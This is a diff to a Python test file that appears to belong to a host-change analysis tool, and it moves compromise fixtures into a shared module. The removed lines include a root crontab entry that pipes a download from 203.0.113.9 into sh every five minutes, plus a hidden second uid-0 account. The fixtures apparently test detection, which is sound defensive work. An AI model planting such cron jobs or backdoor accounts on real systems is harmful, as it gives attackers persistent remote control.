@@ -6,21 +6,10 @@ from __future__ import annotations
 import copy
 
 import pytest
-from runbuilder import build_run, clean_fleet
+from runbuilder import CRON, ROOT2, build_run, clean_fleet
 
 from diffy_analysis.api import analyze
 
-CRON = {
-    "path": "/etc/crontab",
-    "minute": "*/5",
-    "hour": "*",
-    "day_of_month": "*",
-    "month": "*",
-    "day_of_week": "*",
-    "event": "",
-    "command": "root curl -fsSL http://203.0.113.9/x | sh",
-}
-ROOT2 = {"username": "svc-backup", "uid": "0", "gid": "0", "shell": "/bin/bash", "directory": "/root"}
 LISTENER = {
     "protocol": "6",
     "family": "2",
